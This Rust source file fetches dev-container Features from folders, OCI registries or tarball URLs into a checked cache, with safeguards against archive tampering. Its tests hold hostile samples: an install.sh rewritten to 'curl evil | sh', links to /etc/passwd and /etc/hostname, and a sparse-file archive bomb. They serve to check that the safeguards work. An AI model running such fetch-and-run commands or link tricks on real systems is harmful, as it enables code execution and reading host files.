//! Where a Feature comes from, and fetching it into den's cache.

use std::io::Read;
use std::path::{Path, PathBuf};

use den_oci::Reference;

use crate::FeatureError;

/// The media type of a Feature's layer in an OCI artifact.
pub const LAYER_MEDIA_TYPE: &str = "application/vnd.devcontainers.layer.v1+tar";
/// The artifact's config media type.
pub const CONFIG_MEDIA_TYPE: &str = "application/vnd.devcontainers";

#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Source {
    /// A folder, relative to the configuration's folder when written
    /// `./x` or `../x`.
    Local(PathBuf),
    Oci(Reference),
    /// A `.tgz` at an http(s) URL.
    Tarball(String),
}

impl Source {
    /// Reads a Feature id as written in `features` or `dependsOn`.
    pub fn parse(id: &str, config_dir: &Path) -> Result<Source, String> {
        let id = id.trim();
        if id.starts_with("./") || id.starts_with("../") || id == "." || id == ".." {
            return Ok(Source::Local(config_dir.join(id)));
        }
        if id.starts_with('/') {
            return Ok(Source::Local(PathBuf::from(id)));
        }
        if id.starts_with("https://") || id.starts_with("http://") {
            let name = id.split(['?', '#']).next().unwrap_or(id).rsplit('/').next().unwrap_or("");
            let feature = name.strip_prefix("devcontainer-feature-").and_then(|n| n.strip_suffix(".tgz"));
            if !feature.is_some_and(|f| {
                !f.is_empty() && f.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
            }) {
                return Err(format!("a Feature URL names a file `devcontainer-feature-ID.tgz`; `{name}` is not one"));
            }
            return Ok(Source::Tarball(id.to_string()));
        }
        if !id.contains('/') {
            return Err(format!(
                "`{id}` is a short Feature id of the retired vscode-dev-containers set that den does not know; name it in full (`ghcr.io/devcontainers/features/…:1`) or as a folder (`./{id}`)"
            ));
        }
        Reference::parse(id).map(Source::Oci).map_err(|e| e.to_string())
    }

    /// What the Feature is called without its version, for `installsAfter`
    /// and for telling two references to the same Feature apart from two
    /// Features: `registry/repository` for OCI, the URL or folder else.
    pub fn resource(&self) -> String {
        match self {
            Source::Local(p) => p.display().to_string(),
            Source::Oci(r) => r.name(),
            Source::Tarball(u) => u.clone(),
        }
    }
}

/// A Feature's files in den's cache, and what identifies that content.
#[derive(Debug, Clone)]
pub struct Fetched {
    pub dir: PathBuf,
    /// `sha256:…` of the content: the OCI manifest's digest, the
    /// tarball's, or (local folders) of every file's path and bytes.
    pub digest: String,
    /// The OCI manifest digest, when the Feature came from a registry.
    pub manifest_digest: Option<String>,
}

/// Fetches Features into `cache` (den's data; one folder per content
/// digest, made once).
pub struct Fetcher {
    pub cache: PathBuf,
    pub client: den_oci::Client,
}

fn hex(digest: &str) -> &str {
    digest.strip_prefix("sha256:").unwrap_or(digest)
}

/// The files den reads or writes in a Feature's folder: in an archive
/// they must be plain files, never links to something on this machine.
const OWN_FILES: &[&str] = &[
    "devcontainer-feature.json",
    "install.sh",
    "devcontainer-features.env",
    "devcontainer-features.builtin.env",
    "den-feature-install.sh",
];

fn is_own_file(path: &Path) -> bool {
    let mut parts = path.components().filter(|c| !matches!(c, std::path::Component::CurDir));
    match (parts.next(), parts.next()) {
        (Some(std::path::Component::Normal(name)), None) => OWN_FILES.iter().any(|f| name == *f),
        _ => false,
    }
}

fn invalid(message: String) -> std::io::Error {
    std::io::Error::new(std::io::ErrorKind::InvalidData, message)
}

/// Unpacks a tar stream into a new folder at `dest` (through a temporary
/// one beside it, so a failed unpack leaves nothing), unless `dest` holds
/// this content already and is unchanged ([`cached`]). Entries that would
/// land outside the folder are skipped by `tar`; sparse files, devices and
/// links in place of den's own files are refused; every mode loses group
/// and other write and the set-id bits.
fn unpack(reader: impl Read, dest: &Path) -> std::io::Result<()> {
    if cached(dest) {
        return Ok(());
    }
    forget(dest)?;
    let parent = dest.parent().expect("cache folder");
    std::fs::create_dir_all(parent)?;
    let tmp = tempdir_in(parent)?;
    let result = unpack_entries(reader, &tmp).and_then(|()| seal(&tmp)).and_then(|digest| {
        match std::fs::rename(&tmp, dest) {
            // Another den made it meanwhile: theirs is checked like any.
            Err(_) if dest.is_dir() => std::fs::remove_dir_all(&tmp),
            Err(e) => Err(e),
            Ok(()) => write_tree_digest(dest, &digest),
        }
    });
    if result.is_err() {
        let _ = std::fs::remove_dir_all(&tmp);
    }
    result
}

fn unpack_entries(reader: impl Read, into: &Path) -> std::io::Result<()> {
    let mut archive = tar::Archive::new(reader);
    archive.set_preserve_permissions(false);
    archive.set_overwrite(true);
    archive.set_mask(0o022);
    let mut total = 0u64;
    for entry in archive.entries()? {
        let mut entry = entry?;
        let path = entry.path()?.into_owned();
        let refuse = |why: &str| Err(invalid(format!("`{}` {why}", path.display())));
        match entry.header().entry_type() {
            tar::EntryType::Regular | tar::EntryType::Continuous | tar::EntryType::Directory => {}
            tar::EntryType::Symlink | tar::EntryType::Link if is_own_file(&path) => {
                return refuse("is a link; den reads this file, so it must be a plain file")
            }
            tar::EntryType::Symlink | tar::EntryType::Link => {}
            tar::EntryType::GNUSparse => return refuse("is a sparse file; a Feature holds plain files only"),
            tar::EntryType::XGlobalHeader => continue,
            other => return refuse(&format!("is a {other:?} entry; a Feature holds files, folders and links only")),
        }
        total = total.saturating_add(entry.size());
        if total > MAX_UNPACKED {
            return Err(invalid(format!("the archive unpacks to more than {MAX_UNPACKED} bytes")));
        }
        entry.unpack_in(into)?;
    }
    Ok(())
}

/// Gives every file and folder under `dir` a mode of its owner's only
/// (folders 0700, files 0600 or 0700; DEN_HOME is private, and the build
/// gives the files read access back in the image) and no set-id bits, and
/// returns the tree's
/// digest, which [`cached`] checks before the folder is used again.
fn seal(dir: &Path) -> std::io::Result<String> {
    use std::os::unix::fs::PermissionsExt;
    for (path, kind) in walk(dir, false)? {
        let mode = match kind {
            Kind::Dir => 0o700,
            Kind::File => std::fs::symlink_metadata(&path)?.permissions().mode() & 0o700 | 0o600,
            Kind::Link | Kind::Other => continue,
        };
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode))?;
    }
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700))?;
    tree_digest(dir, false)
}

fn tree_digest_file(dest: &Path) -> PathBuf {
    dest.with_extension("tree")
}

fn write_tree_digest(dest: &Path, digest: &str) -> std::io::Result<()> {
    let file = tree_digest_file(dest);
    let tmp = file.with_extension(format!("tree.{}", std::process::id()));
    std::fs::write(&tmp, digest)?;
    std::fs::rename(&tmp, &file)
}

/// Removes a cached folder (and its digest) that is not to be trusted.
fn forget(dest: &Path) -> std::io::Result<()> {
    match std::fs::remove_file(tree_digest_file(dest)) {
        Err(e) if e.kind() != std::io::ErrorKind::NotFound => return Err(e),
        _ => {}
    }
    match std::fs::symlink_metadata(dest) {
        Ok(m) if m.is_dir() => std::fs::remove_dir_all(dest),
        Ok(_) => std::fs::remove_file(dest),
        Err(_) => Ok(()),
    }
}

/// Whether a cached Feature folder may be used again: it is den's
/// (owned like the cache folder, nothing writable by group or others, no
/// set-id bits, den's own files plain files) and its files are the ones
/// unpacked (the digest recorded beside it).
fn cached(dest: &Path) -> bool {
    use std::os::unix::fs::MetadataExt;
    let (Ok(top), Some(owner)) =
        (std::fs::symlink_metadata(dest), dest.parent().and_then(|p| std::fs::metadata(p).ok()).map(|m| m.uid()))
    else {
        return false;
    };
    let Ok(recorded) = std::fs::read_to_string(tree_digest_file(dest)) else { return false };
    let sound = |m: &std::fs::Metadata| m.uid() == owner && (m.file_type().is_symlink() || m.mode() & 0o7022 == 0);
    let Ok(entries) = walk(dest, false) else { return false };
    top.is_dir()
        && sound(&top)
        && entries.iter().all(|(path, kind)| {
            let own = is_own_file(path.strip_prefix(dest).unwrap_or(path));
            std::fs::symlink_metadata(path).is_ok_and(|m| sound(&m)) && !(own && *kind != Kind::File)
        })
        && tree_digest(dest, false).is_ok_and(|d| d == recorded)
}

fn tempdir_in(parent: &Path) -> std::io::Result<PathBuf> {
    for i in 0..100u32 {
        let p = parent.join(format!(".tmp-{}-{i}", std::process::id()));
        match std::fs::create_dir(&p) {
            Ok(()) => return Ok(p),
            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => continue,
            Err(e) => return Err(e),
        }
    }
    Err(std::io::Error::other("no free temporary folder name"))
}

/// What a path in a folder is (links are not followed).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Kind {
    Dir,
    File,
    Link,
    /// A socket, a fifo, a device.
    Other,
}

/// Every path under `dir` with its kind, links not followed (`.git`
/// folders left out when `skip_git`).
fn walk(dir: &Path, skip_git: bool) -> std::io::Result<Vec<(PathBuf, Kind)>> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d)? {
            let e = e?;
            let t = e.file_type()?;
            let kind = match () {
                _ if t.is_dir() => Kind::Dir,
                _ if t.is_symlink() => Kind::Link,
                _ if t.is_file() => Kind::File,
                _ => Kind::Other,
            };
            if kind == Kind::Dir {
                if skip_git && e.file_name() == ".git" {
                    continue;
                }
                stack.push(e.path());
            }
            out.push((e.path(), kind));
        }
    }
    Ok(out)
}

/// A digest of a folder's files: each relative path and its bytes (a
/// link's target, never what it points to), in sorted order.
fn tree_digest(dir: &Path, skip_git: bool) -> std::io::Result<String> {
    use sha2::Digest;
    let mut files: Vec<(PathBuf, Kind)> =
        walk(dir, skip_git)?.into_iter().filter(|(_, k)| matches!(k, Kind::File | Kind::Link)).collect();
    files.sort();
    let mut h = sha2::Sha256::new();
    for (f, kind) in files {
        let rel = f.strip_prefix(dir).unwrap_or(&f);
        h.update(rel.as_os_str().as_encoded_bytes());
        h.update([0]);
        let bytes = match kind {
            Kind::File => std::fs::read(&f)?,
            _ => std::fs::read_link(&f)?.into_os_string().into_encoded_bytes(),
        };
        h.update((bytes.len() as u64).to_le_bytes());
        h.update(&bytes);
    }
    Ok(format!("sha256:{}", h.finalize().iter().map(|b| format!("{b:02x}")).collect::<String>()))
}

/// A digest of a folder's files: each relative path and its bytes, in
/// sorted order (`.git` folders, sockets and fifos left out).
pub fn folder_digest(dir: &Path) -> std::io::Result<String> {
    tree_digest(dir, true)
}

impl Fetcher {
    pub fn new(cache: PathBuf) -> Fetcher {
        Fetcher { cache, client: den_oci::Client::default() }
    }

    /// Fetches one Feature. `pinned`: the manifest digest the lockfile
    /// names for an OCI Feature (fetched by that digest).
    pub fn fetch(&self, id: &str, source: &Source, pinned: Option<&str>) -> Result<Fetched, FeatureError> {
        let fail = |message: String| FeatureError::Fetch { feature: id.to_string(), message };
        match source {
            Source::Local(dir) => {
                if !dir.is_dir() {
                    return Err(fail(format!("{} is not a folder", dir.display())));
                }
                let digest = folder_digest(dir).map_err(|e| fail(format!("reading {}: {e}", dir.display())))?;
                Ok(Fetched { dir: dir.clone(), digest, manifest_digest: None })
            }
            Source::Tarball(url) => {
                // https, or http to loopback; each redirect under the same
                // rule and never from https down to http.
                let bytes = den_http::Http::default().get(url, den_oci::MAX_BLOB).map_err(|e| fail(e.to_string()))?;
                let digest = den_oci::sha256_digest(&bytes);
                let dir = self.cache.join("tarball").join(hex(&digest));
                let gz = bytes.starts_with(&[0x1f, 0x8b]);
                let r = if gz { unpack(gunzip(&bytes), &dir) } else { unpack(&bytes[..], &dir) };
                r.map_err(|e| fail(format!("{url}: not a readable .tgz: {e}")))?;
                Ok(Fetched { dir, digest, manifest_digest: None })
            }
            Source::Oci(r) => {
                let r = match pinned {
                    Some(d) => r.at_digest(d),
                    None => r.clone(),
                };
                let manifest = self.client.manifest(&r).map_err(|e| fail(e.to_string()))?;
                let dir = self.cache.join("oci").join(hex(&manifest.digest));
                if !cached(&dir) {
                    let layers = manifest.layers();
                    let (_, layer, _) = layers
                        .iter()
                        .find(|(t, _, _)| t == LAYER_MEDIA_TYPE)
                        .or_else(|| layers.first())
                        .ok_or_else(|| fail(format!("{r}: the manifest has no layer")))?;
                    let bytes = self.client.blob(&r, layer).map_err(|e| fail(e.to_string()))?;
                    let gz = bytes.starts_with(&[0x1f, 0x8b]);
                    let res = if gz { unpack(gunzip(&bytes), &dir) } else { unpack(&bytes[..], &dir) };
                    res.map_err(|e| fail(format!("{r}: the layer is not a readable tar: {e}")))?;
                }
                Ok(Fetched { dir, digest: manifest.digest.clone(), manifest_digest: Some(manifest.digest) })
            }
        }
    }
}

/// Most bytes a Feature archive unpacks to: a small archive that expands
/// without end stops here, as a truncated (so unreadable) archive.
const MAX_UNPACKED: u64 = 2 << 30;

fn gunzip(bytes: &[u8]) -> impl Read + '_ {
    flate2::read::GzDecoder::new(bytes).take(MAX_UNPACKED)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_name_their_source() {
        let dir = Path::new("/p/.devcontainer");
        assert_eq!(Source::parse("./hello", dir).unwrap(), Source::Local(dir.join("./hello")));
        assert!(matches!(Source::parse("ghcr.io/devcontainers/features/node:1", dir).unwrap(), Source::Oci(_)));
        assert!(matches!(
            Source::parse("https://example.com/devcontainer-feature-go.tgz", dir).unwrap(),
            Source::Tarball(_)
        ));
        assert!(Source::parse("nodejs-thing", dir).unwrap_err().contains("./nodejs-thing"));
        assert!(Source::parse("https://example.com/feature.tgz", dir)
            .unwrap_err()
            .contains("devcontainer-feature-ID.tgz"));
        assert!(Source::parse("ghcr.io/Bad/Name", dir).is_err());
        assert_eq!(
            Source::parse("ghcr.io/devcontainers/features/node:1", dir).unwrap().resource(),
            "ghcr.io/devcontainers/features/node"
        );
    }

    /// The https-only rule holds for every hop of a redirect, not only
    /// for the URL written in the configuration.
    #[test]
    fn tarball_redirects_keep_the_https_rule() {
        use std::io::{BufRead, BufReader, Write};
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let server = std::thread::spawn(move || {
            let (s, _) = l.accept().unwrap();
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut line = String::new();
            while r.read_line(&mut line).unwrap() > 2 {
                line.clear();
            }
            let mut s = s;
            s.write_all(b"HTTP/1.1 302 Found\r\nLocation: http://example.com/devcontainer-feature-x.tgz\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").unwrap();
        });
        let d = tempfile::tempdir().unwrap();
        let url = format!("http://127.0.0.1:{port}/devcontainer-feature-x.tgz");
        let source = Source::parse(&url, d.path()).unwrap();
        let e = Fetcher::new(d.path().join("cache")).fetch(&url, &source, None).unwrap_err().to_string();
        server.join().unwrap();
        assert!(e.contains("redirects to http://example.com/") && e.contains("loopback"), "{e}");
        let plain = "http://example.com/devcontainer-feature-x.tgz";
        let e = Fetcher::new(d.path().join("cache"))
            .fetch(plain, &Source::parse(plain, d.path()).unwrap(), None)
            .unwrap_err()
            .to_string();
        assert!(e.contains("plain http is used only for loopback"), "{e}");
    }

    #[test]
    fn a_folder_digest_changes_with_any_file() {
        let d = tempfile::tempdir().unwrap();
        std::fs::write(d.path().join("install.sh"), "echo 1").unwrap();
        let a = folder_digest(d.path()).unwrap();
        std::fs::write(d.path().join("install.sh"), "echo 2").unwrap();
        let b = folder_digest(d.path()).unwrap();
        std::fs::create_dir(d.path().join("sub")).unwrap();
        std::fs::write(d.path().join("sub/x"), "").unwrap();
        let c = folder_digest(d.path()).unwrap();
        assert!(a != b && b != c);
    }

    /// A tar archive of `entries` (header, path, data), as `tar` writes it.
    fn archive(entries: Vec<(tar::Header, &str, &[u8])>) -> Vec<u8> {
        let mut b = tar::Builder::new(Vec::new());
        for (mut h, path, data) in entries {
            b.append_data(&mut h, path, data).unwrap();
        }
        b.into_inner().unwrap()
    }

    fn header(kind: tar::EntryType, mode: u32, size: u64) -> tar::Header {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(kind);
        h.set_mode(mode);
        h.set_size(size);
        h
    }

    fn feature_files() -> Vec<(tar::Header, &'static str, &'static [u8])> {
        let json: &[u8] = br#"{"id": "x"}"#;
        vec![
            (header(tar::EntryType::Regular, 0o644, json.len() as u64), "devcontainer-feature.json", json),
            (header(tar::EntryType::Regular, 0o755, 10), "install.sh", b"#!/bin/sh\n"),
        ]
    }

    #[test]
    fn sparse_entries_are_refused_before_anything_grows() {
        // 230 bytes of archive that would be a 4 GiB file: one GNU sparse
        // entry holding one byte at offset 4 GiB - 1.
        let mut h = header(tar::EntryType::GNUSparse, 0o644, 1);
        let gnu = h.as_gnu_mut().unwrap();
        gnu.set_real_size(4 << 30);
        gnu.sparse[0].set_offset((4 << 30) - 1);
        gnu.sparse[0].set_length(1);
        let mut entries = feature_files();
        entries.push((h, "big", b"x"));
        let bytes = archive(entries);
        let d = tempfile::tempdir().unwrap();
        let e = unpack(&bytes[..], &d.path().join("f")).unwrap_err().to_string();
        assert!(e.contains("`big` is a sparse file"), "{e}");
        assert!(std::fs::read_dir(d.path()).unwrap().next().is_none(), "nothing is left");
    }

    #[test]
    fn modes_are_the_owners_only_without_set_id_bits() {
        use std::os::unix::fs::PermissionsExt;
        let mut entries = feature_files();
        entries.push((header(tar::EntryType::Regular, 0o6777, 1), "tool", b"x"));
        entries.push((header(tar::EntryType::Directory, 0o777, 0), "sub", b""));
        entries.push((header(tar::EntryType::Regular, 0o666, 1), "sub/data", b"y"));
        let d = tempfile::tempdir().unwrap();
        let dest = d.path().join("f");
        unpack(&archive(entries)[..], &dest).unwrap();
        let mode = |p: &str| std::fs::metadata(dest.join(p)).unwrap().permissions().mode() & 0o7777;
        assert_eq!(mode("tool"), 0o700);
        assert_eq!(mode("sub"), 0o700);
        assert_eq!(mode("sub/data"), 0o600);
        assert_eq!(mode(""), 0o700);
    }

    #[test]
    fn den_s_own_files_may_not_be_links() {
        for (kind, name) in [
            (tar::EntryType::Symlink, "devcontainer-feature.json"),
            (tar::EntryType::Symlink, "./install.sh"),
            (tar::EntryType::Link, "devcontainer-features.env"),
        ] {
            let mut b = tar::Builder::new(Vec::new());
            let mut h = header(kind, 0o777, 0);
            b.append_link(&mut h, name, if kind == tar::EntryType::Link { "other" } else { "/etc/passwd" }).unwrap();
            let bytes = b.into_inner().unwrap();
            let d = tempfile::tempdir().unwrap();
            let e = unpack(&bytes[..], &d.path().join("f")).unwrap_err().to_string();
            assert!(e.contains("is a link; den reads this file"), "{name}: {e}");
        }
        // Links elsewhere in a Feature stay links.
        let mut b = tar::Builder::new(Vec::new());
        for (mut h, p, data) in feature_files() {
            b.append_data(&mut h, p, data).unwrap();
        }
        b.append_link(&mut header(tar::EntryType::Symlink, 0o777, 0), "lib/current", "v1").unwrap();
        let d = tempfile::tempdir().unwrap();
        unpack(&b.into_inner().unwrap()[..], &d.path().join("f")).unwrap();
        assert_eq!(std::fs::read_link(d.path().join("f/lib/current")).unwrap(), Path::new("v1"));
    }

    #[test]
    fn a_cached_tree_that_changed_is_unpacked_again() {
        use std::os::unix::fs::PermissionsExt;
        let bytes = archive(feature_files());
        let d = tempfile::tempdir().unwrap();
        let dest = d.path().join("f");
        unpack(&bytes[..], &dest).unwrap();
        assert!(cached(&dest));
        // Another hand appends to install.sh: the tree no longer matches.
        std::fs::write(dest.join("install.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        assert!(!cached(&dest));
        unpack(&bytes[..], &dest).unwrap();
        assert_eq!(std::fs::read_to_string(dest.join("install.sh")).unwrap(), "#!/bin/sh\n");
        // A mode that lets others write is not trusted either.
        std::fs::set_permissions(dest.join("install.sh"), std::fs::Permissions::from_mode(0o777)).unwrap();
        assert!(!cached(&dest));
        // devcontainer-feature.json made a link to a host file.
        unpack(&bytes[..], &dest).unwrap();
        std::fs::remove_file(dest.join("devcontainer-feature.json")).unwrap();
        std::os::unix::fs::symlink("/etc/hostname", dest.join("devcontainer-feature.json")).unwrap();
        assert!(!cached(&dest));
        unpack(&bytes[..], &dest).unwrap();
        assert!(std::fs::symlink_metadata(dest.join("devcontainer-feature.json")).unwrap().is_file());
    }

    #[test]
    fn folder_digests_read_link_targets_not_what_they_point_to() {
        let d = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret"), "1").unwrap();
        std::os::unix::fs::symlink(outside.path().join("secret"), d.path().join("link")).unwrap();
        let a = folder_digest(d.path()).unwrap();
        std::fs::write(outside.path().join("secret"), "2").unwrap();
        assert_eq!(a, folder_digest(d.path()).unwrap());
    }

    #[test]
    fn unpacking_refuses_paths_outside_and_leaves_nothing_on_failure() {
        let d = tempfile::tempdir().unwrap();
        let mut b = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(1);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, "ok.txt", &b"x"[..]).unwrap();
        let bytes = b.into_inner().unwrap();
        unpack(&bytes[..], &d.path().join("good")).unwrap();
        assert!(d.path().join("good/ok.txt").is_file());
        // A truncated archive: an error and no folder.
        assert!(unpack(&bytes[..700], &d.path().join("bad")).is_err() || !d.path().join("bad/ok.txt").exists());
        assert!(std::fs::read_dir(d.path()).unwrap().all(|e| !e
            .unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with(".tmp")));
    }
}
